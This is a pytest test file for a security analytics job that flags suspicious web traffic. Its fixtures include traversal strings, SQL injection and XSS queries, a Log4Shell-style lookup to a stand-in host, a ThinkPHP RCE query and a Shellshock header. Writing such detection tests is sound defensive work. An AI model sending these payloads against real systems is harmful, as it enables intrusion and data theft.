"""Each security rule fires on its pattern / threshold and stays quiet just under it."""

from __future__ import annotations

import json
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest
from pyspark.sql import functions

from analytics.security import automated_clients
from config.settings import Bucket, Retry, SecuritySettings
from tests.analytics_day import analysis
from tests.analytics_day import findings as security_findings

T0 = datetime(2026, 5, 1, 10, 0, 0, tzinfo=UTC)
BOT_UA = "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"


def at(seconds: float) -> datetime:
    return T0 + timedelta(seconds=seconds)


SETTINGS = SecuritySettings(
    window_minutes=10,
    # a bucket of capacity 4 leaking one per 150 s: 5 distinct paths within 600 s, as a window
    probing=Bucket(capacity=4, leak_seconds=150),
    login_bf=Retry(maxretry=4, findtime_seconds=600),
    credential_stuffing_users=3,
    flood_requests_per_minute=15,
    anomaly_min_requests=1_000,
)


def traffic() -> list[dict[str, Any]]:
    rows: list[dict[str, Any]] = []
    # path_scan: 5 distinct 404s within 599 s fire; 4 distinct (one repeated) do not; 5 spread over exactly
    # 600 s do not either (the window ending at t is (t - 10 min, t]).
    rows += [
        {"client_ip": "10.0.0.1", "requested_at": at(s), "path": f"/p{i}", "status": 404}
        for i, s in enumerate((0, 100, 200, 300, 599))
    ]
    rows += [
        {"client_ip": "10.0.0.2", "requested_at": at(i * 10), "path": f"/q{min(i, 3)}", "status": 404} for i in range(6)
    ]
    rows += [
        {"client_ip": "10.0.0.3", "requested_at": at(s), "path": f"/r{i}", "status": 403}
        for i, s in enumerate((0, 150, 300, 450, 600))
    ]
    # sensitive files; a 200 on /.git/config escalates to critical
    rows += [
        {"client_ip": "10.0.0.4", "requested_at": at(5), "path": "/.env", "status": 404},
        {"client_ip": "10.0.0.4", "requested_at": at(6), "path": "/.git/config", "status": 200},
    ]
    # traversal variants, one IP each
    for host_number, (path, query) in enumerate(
        [
            ("/static/../../etc/passwd", None),
            ("/download", "file=%2e%2e%2f%2e%2e%2fetc%2fpasswd"),
            ("/..%c0%af..%c0%afwindows/win.ini", None),
            ("/get", "f=%252e%252e%252fsecret"),
            ("/img/..%5c..%5cboot", None),
        ],
        start=1,
    ):
        rows.append(
            {"client_ip": f"10.0.1.{host_number}", "requested_at": at(10), "path": path, "query": query, "status": 400}
        )
    rows += [
        {
            "client_ip": "10.0.2.1",
            "requested_at": at(20),
            "path": "/item",
            "query": "id=1%27%20UNION%20SELECT%20password%20FROM%20users--",
        },
        {"client_ip": "10.0.2.2", "requested_at": at(21), "path": "/search", "query": "q=x%27+or+%271%27%3D%271"},
        {
            "client_ip": "10.0.3.1",
            "requested_at": at(22),
            "path": "/search",
            "query": "q=%3Cscript%3Ealert(1)%3C/script%3E",
        },
        {"client_ip": "10.0.4.1", "requested_at": at(23), "user_agent": "${jndi:ldap://evil.example/a}"},
        {
            "client_ip": "10.0.4.2",
            "requested_at": at(24),
            "path": "/index.php",
            "query": "s=/Index/\\think\\app/invokefunction&function=call_user_func_array",
        },
        {"client_ip": "10.0.4.3", "requested_at": at(25), "referer": "() { :; }; /bin/bash -c id"},
        {"client_ip": "10.0.5.1", "requested_at": at(26), "path": "/product/1", "user_agent": "sqlmap/1.7.2#stable"},
    ]
    # brute force: 4 failed login POSTs fire, 3 (a user mistyping) do not
    rows += [
        {"client_ip": "10.0.6.1", "requested_at": at(30 * i), "method": "POST", "path": "/wp-login.php", "status": 401}
        for i in range(4)
    ]
    rows += [
        {
            "client_ip": "10.0.6.2",
            "requested_at": at(30 * i),
            "method": "POST",
            "path": "/login",
            "status": 401 if i < 3 else 200,
        }
        for i in range(4)
    ]
    # flood: 15 requests in one calendar minute fire, 14 do not
    rows += [{"client_ip": "10.0.8.1", "requested_at": at(300 + i), "path": "/"} for i in range(15)]
    rows += [{"client_ip": "10.0.8.2", "requested_at": at(300 + i), "path": "/"} for i in range(14)]
    # benign: a crawler with many 404s and a burst, a broken page 404 for many clients, odd but harmless URLs
    rows += [
        {"client_ip": "66.249.66.1", "requested_at": at(i), "path": f"/old/{i}", "status": 404, "user_agent": BOT_UA}
        for i in range(20)
    ]
    rows += [{"client_ip": f"10.1.0.{i}", "requested_at": at(i), "path": "/broken", "status": 404} for i in range(8)]
    for offset, (path, query) in enumerate(
        [
            ("/files/report..final.pdf", None),
            ("/search", "q=select+a+product+from+catalog"),
            ("/search", "q=d%27orange&lang=fr"),
            ("/pct", "q=100%"),
            ("/pct", "q=%zz%E2%9C%93"),
            ("/product/1", None),
            ("/blog/2026/05/post", "utm_source=news"),
        ]
    ):
        rows.append(
            {
                "client_ip": "10.2.0.1",
                "requested_at": at(40 + offset),
                "path": path,
                "query": query,
                "referer": "https://www.google.com/",
            }
        )
    return rows


def failures(ip: str, users: list[str]) -> list[dict[str, Any]]:
    return [
        {"client_ip": ip, "occurred_at": at(60 + i), "event_type": "login_failure", "user_id": u, "path": "/login"}
        for i, u in enumerate(users)
    ]


EXPECTED = {
    ("10.0.0.1", "path_scan"),
    ("10.0.0.4", "sensitive_file"),
    *[(f"10.0.1.{i}", "path_traversal") for i in range(1, 6)],
    ("10.0.2.1", "sql_injection"),
    ("10.0.2.2", "sql_injection"),
    ("10.0.3.1", "xss"),
    ("10.0.4.1", "known_exploit"),
    ("10.0.4.2", "known_exploit"),
    ("10.0.4.3", "known_exploit"),
    ("10.0.5.1", "scanner_user_agent"),
    ("10.0.6.1", "brute_force"),
    ("10.0.7.1", "credential_stuffing"),
    ("10.0.8.1", "flood"),
}


@pytest.fixture(scope="module")
def findings(frames: Any):
    requests = frames.requests(traffic())
    events = frames.events(failures("10.0.7.1", ["u1", "u2", "u3"]) + failures("10.0.7.2", ["u9"] * 5 + ["u8"]))
    day = analysis(requests, events, SETTINGS)
    found = day.findings
    return day, found, {(r.client_ip, r.category): r for r in found.collect()}


def test_each_rule_fires_and_near_misses_do_not(findings) -> None:
    _, _, rows = findings
    assert set(rows) == EXPECTED


def test_finding_details(findings) -> None:
    _, _, rows = findings
    scan = rows[("10.0.0.1", "path_scan")]
    assert (scan.request_count, scan.distinct_paths, scan.score, scan.severity) == (5, 5, 5.0, "medium")
    assert scan.first_seen_at.astimezone(UTC) == at(0) and scan.last_seen_at.astimezone(UTC) == at(599)
    evidence = json.loads(scan.evidence)
    assert evidence["rule_id"] == scan.rule_id == "WT-SEC-001" and evidence["threshold"] == 5
    assert [s["request"] for s in evidence["samples"]] == [f"GET /p{i} HTTP/1.1" for i in range(5)]
    assert rows[("10.0.0.4", "sensitive_file")].severity == "critical"
    assert rows[("10.0.7.1", "credential_stuffing")].user_ids == ["u1", "u2", "u3"]
    assert rows[("10.0.8.1", "flood")].request_count == 15
    sqli = json.loads(rows[("10.0.2.1", "sql_injection")].evidence)
    assert sqli["matched"] == ["UNION SELECT"] and sqli["samples"][0]["status"] == 200
    assert rows[("10.0.2.1", "sql_injection")].score is None


def test_ip_daily_and_automated_ips(findings) -> None:
    day, found, _ = findings
    auto = {r.client_ip for r in automated_clients(found, SETTINGS).collect()}
    assert auto == {ip for ip, _ in EXPECTED}
    daily = {
        r.client_ip: r
        for r in day.tables()["ip_daily"].where(functions.col("client_ip").startswith("10.0.0.")).collect()
    }
    assert daily["10.0.0.1"].is_flagged and not daily["10.0.0.2"].is_flagged
    assert (daily["10.0.0.4"].requests, daily["10.0.0.4"].status_4xx, daily["10.0.0.4"].distinct_paths) == (2, 1, 2)


def test_anomaly_robust_z_score(frames: Any) -> None:
    # requests per active minute: 1,1,2,2,3,3 (small IPs), 2 (heavy but human: 40 over 20 min), 10 (40 over
    # 4 min), 12 (12 in one minute, below min requests); the declared crawler is left out. median 2, MAD 1:
    # z(10.9.0.9) = 0.6745 * (10 - 2) / 1 = 5.396.
    rows: list[dict[str, Any]] = []
    for host_number, request_count in enumerate((1, 1, 2, 2, 3, 3)):
        rows += [{"client_ip": f"10.9.0.{host_number}", "requested_at": at(k)} for k in range(request_count)]
    rows += [{"client_ip": "10.9.0.7", "requested_at": at(30 * k)} for k in range(40)]
    rows += [{"client_ip": "10.9.0.9", "requested_at": at(6 * k)} for k in range(40)]
    rows += [{"client_ip": "10.9.0.8", "requested_at": at(k)} for k in range(12)]
    rows += [{"client_ip": "66.249.66.1", "requested_at": at(k), "user_agent": BOT_UA} for k in range(40)]
    settings = SecuritySettings(anomaly_min_requests=30, anomaly_score=5.0)
    found = security_findings(frames.requests(rows), frames.events([]), settings).collect()
    assert [(r.client_ip, r.category, r.severity, r.request_count) for r in found] == [
        ("10.9.0.9", "anomaly", "low", 40)
    ]
    detail = "requests=40 active_minutes=4 rate=10.000 median=2.000 mad=1.000"
    assert json.loads(found[0].evidence)["detail"] == detail
    assert found[0].score == pytest.approx(0.6745 * 8)
